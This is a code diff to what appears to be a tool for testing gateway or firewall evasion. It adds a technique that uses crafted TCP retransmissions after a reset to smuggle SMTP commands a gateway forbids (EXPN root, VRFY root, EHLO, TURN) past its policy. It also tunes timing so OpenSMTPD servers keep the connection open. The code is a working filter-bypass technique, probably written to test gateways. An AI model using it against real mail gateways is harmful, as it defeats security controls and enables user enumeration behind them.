@@ -36,11 +36,16 @@ Refused = Callable[[RawTcp, bytes], None]
 
 
 def lines(length: int) -> bytes:
-    """So many octets of allowed commands."""
-    return (b"NOOP\r\n" * (length // 6 + 1))[:length] if length % 6 != 1 else b"NOOP \r\n" + lines(length - 7)
+    """So many octets of an allowed command without its end; of several where one would be too long.
+
+    OpenSMTPD hangs up on who does not wait for a reply.
+    """
+    if length <= 400:
+        return b"NOOP ".ljust(length, b"x")[:length]
+    return (b"NOOP\r\n" * (length // 6 + 1))[:length]
 
 
-def speak_again(attack: Attack, new: RawTcp, acknowledged: int, decided: int) -> None:
+def speak_again(attack: Attack, new: RawTcp, acknowledged: int, decided: int, command: bytes = EVIL) -> None:
     """Over the places the gateway has decided already, and behind them a forbidden command."""
     if not new.established:
         return
@@ -51,8 +56,14 @@ def speak_again(attack: Attack, new: RawTcp, acknowledged: int, decided: int) ->
             new.put(filler[place : min(stop, place + SEGMENT)], place)
             if place % (16 * SEGMENT) == start % (16 * SEGMENT):
                 attack.wait(0.01)
-    new.put(b"\r\n" + EVIL, decided)
+    new.put(b"\r\n", decided)
+    attack.wait(0.03)  # some servers hang up on who does not wait
+    new.put(command, decided + 2)
     attack.wait(0.05)
+
+
+def denied(attack: Attack, line: bytes) -> bool:
+    return line.split()[0].decode() not in attack.policy.commands.allow
 
 
 def carried(**fields: Any) -> Refused:
@@ -268,6 +279,19 @@ def again_exact(attack: Attack) -> None:
     old = attack.text()
     old.stray(flags=RST)
     speak_again(attack, attack.again(old), old.here, old.here)
+
+
+@technique("again-executed", "as again-md5, with what servers carry out: EXPN, EHLO, VRFY, whichever is denied")
+def again_executed(attack: Attack) -> None:
+    attack.press()
+    old = separated(carried(options=[MD5]))(attack)
+    old.stray(flags=RST)
+    verbs = [verb for verb in (b"EXPN root", b"EHLO x", b"VRFY root", b"TURN") if denied(attack, verb)]
+    new = attack.again(old)
+    speak_again(attack, new, old.here, old.here + len(APART), verbs[0] + b"\r\n")
+    for verb in verbs[1:] if new.established else ():
+        new.put(verb + b"\r\n")
+        attack.wait(0.05)
 
 
 @technique("again-keywords", "as again-md5, for EHLO's keywords and the greeting behind what was decided")
